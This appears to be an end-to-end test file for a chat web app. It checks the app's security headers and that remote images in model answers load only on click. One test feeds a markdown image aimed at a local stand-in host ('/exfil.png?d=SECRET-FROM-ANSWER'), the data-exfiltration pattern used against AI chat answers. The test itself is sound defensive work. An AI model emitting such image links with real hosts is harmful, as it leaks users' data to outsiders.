import assert from "node:assert/strict";
import { createServer } from "node:http";
import { startOpenAiServer } from "../helpers/servers/model-servers.ts";
import { GOOD_KEY } from "../helpers/shared/model-key.ts";
import { signUp, useLocalChatModel } from "./helpers.mjs";

// An outside host that counts what browsers ask of it: an answer's image must reach it only by a click.
const startOutsideHost = async () => {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(request.url);
    response.writeHead(200, { "Content-Type": "image/png" }).end();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    hits,
    close: () => new Promise((resolve) => server.close(resolve)),
  };
};

// The owner's chat (the local model answers "Antwort auf: <question>") and a share link for it.
const sharedChat = (page) =>
  page.evaluate(async () => {
    const headers = { Authorization: localStorage.getItem("token"), "Content-Type": "application/json" };
    const post = async (path, body) => {
      const envelope = await (
        await fetch(`/api/v1${path}`, { method: "POST", headers, body: JSON.stringify(body) })
      ).json();
      if (envelope.code !== 0) throw new Error(`${path}: ${envelope.message}`);
      return envelope.data;
    };
    const chat = await post("/chats", { name: "Echo-Buddy" });
    const link = await post(`/chats/${chat.id}/share-tokens`, { name: "Website", rate_per_minute: 600 });
    return { chatId: chat.id, token: link.token };
  });

// (a tab opened on the outside host also asks it for /favicon.ico)
const exfiltrations = (outside) => outside.hits.filter((hit) => hit.startsWith("/exfil.png"));

const directives = (response) =>
  Object.fromEntries(
    (response.headers.get("content-security-policy") ?? "")
      .split(";")
      .map((directive) => directive.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...sources]) => [name, sources.join(" ")]),
  );

const requestsTo = (page, origin) => {
  const seen = [];
  page.on("request", (request) => {
    if (request.url().startsWith(origin)) seen.push(request.url());
  });
  return seen;
};

// The answer shows the image as a link to the outside host, and nothing on the page loaded it.
const assertImageIsOnlyALink = async (scope, outside, question, seen) => {
  await scope.getByLabel("Ihre Frage").fill(question);
  await scope.keyboard.press("Enter");
  const answer = scope.locator("[data-role=assistant]").filter({ hasText: "Antwort auf" }).last();
  await answer.waitFor({ timeout: 30_000 });
  const link = answer.getByTestId("remote-image-link");
  await link.waitFor();
  assert.equal(await link.getAttribute("href"), `${outside.origin}/exfil.png?d=SECRET-FROM-ANSWER`);
  assert.equal(await answer.locator(`img[src^="${outside.origin}"]`).count(), 0);
  // streamed answers re-render: give a late <img> the time to fire its request
  await scope.waitForTimeout(500);
  assert.deepEqual(seen, []);
  assert.deepEqual(exfiltrations(outside), []);
  return link;
};

export const tests = [
  [
    "every kind of page carries its security headers under wrangler dev",
    async ({ baseUrl }) => {
      const app = await fetch(`${baseUrl}/chat`);
      assert.equal(app.status, 200);
      const html = await app.text();
      assert.match(html, /<div id="root">/);
      assert.doesNotMatch(html, /<script>/, "no inline script: the policy runs only Buddy's script files");
      for (const response of [app, await fetch(`${baseUrl}/`), await fetch(`${baseUrl}/knowledge`)]) {
        const policy = directives(response);
        assert.equal(policy["frame-ancestors"], "'none'");
        assert.equal(policy["img-src"], "'self' data: blob:");
        assert.equal(policy["connect-src"], "'self' data: blob:");
        assert.equal(policy["script-src"], "'self' 'wasm-unsafe-eval'");
      }
      const share = directives(await fetch(`${baseUrl}/chat/share?shared_id=x&auth=not-a-token`));
      assert.equal(share["frame-ancestors"], "'self'");
      assert.equal(share["img-src"], "'self' data: blob:");

      const ping = await fetch(`${baseUrl}/api/v1/system/ping`);
      assert.deepEqual(directives(ping), { "default-src": "'none'", "frame-ancestors": "'none'" });
      assert.equal(ping.headers.get("x-content-type-options"), "nosniff");
      assert.equal(directives(await fetch(`${baseUrl}/api/docs`))["frame-ancestors"], "'self'");

      // the built files are served straight from the assets, the embed script included
      const script = html.match(/<script type="module" crossorigin src="([^"]+)"/)?.[1];
      assert.ok(script, html);
      assert.equal((await fetch(`${baseUrl}${script}`)).status, 200);
      const widget = await fetch(`${baseUrl}/embed/widget.js`);
      assert.equal(widget.status, 200);
      assert.match(widget.headers.get("content-type") ?? "", /javascript/);
      assert.equal((await fetch(`${baseUrl}/theme.js`)).status, 200);
    },
  ],
  [
    "a remote image in an answer loads nothing until clicked, on the chat page and on the share page",
    async ({ page, baseUrl }) => {
      const model = await startOpenAiServer();
      const outside = await startOutsideHost();
      const question = `Zeige ![Beweis](${outside.origin}/exfil.png?d=SECRET-FROM-ANSWER)`;
      try {
        await signUp(page, baseUrl);
        await useLocalChatModel(page, model.url, GOOD_KEY);
        const { chatId, token } = await sharedChat(page);

        const seen = requestsTo(page, outside.origin);
        await page.goto(`${baseUrl}/chat?dialogId=${chatId}`);
        await page.getByRole("button", { name: "Neuer Chat" }).first().click();
        const link = await assertImageIsOnlyALink(page, outside, question, seen);
        // the reader's click is the only way the image loads
        const [popup] = await Promise.all([page.waitForEvent("popup"), link.click()]);
        await popup.waitForLoadState();
        assert.deepEqual(exfiltrations(outside), ["/exfil.png?d=SECRET-FROM-ANSWER"]);
        await popup.close();
        outside.hits.length = 0;

        const visitor = await page.context().browser().newContext({ locale: "de-DE" });
        try {
          const share = await visitor.newPage();
          const errors = [];
          share.on("console", (message) => message.type() === "error" && errors.push(message.text()));
          const shareSeen = requestsTo(share, outside.origin);
          await share.goto(`${baseUrl}/chat/share?shared_id=${chatId}&from=chat&auth=${token}`);
          await share.getByRole("heading", { name: "Echo-Buddy" }).waitFor();
          await assertImageIsOnlyALink(share, outside, question, shareSeen);
          assert.deepEqual(
            errors.filter((error) => !error.startsWith("Failed to load resource")),
            [],
          );
        } finally {
          await visitor.close();
        }
      } finally {
        model.server.close();
        await outside.close();
      }
    },
  ],
];
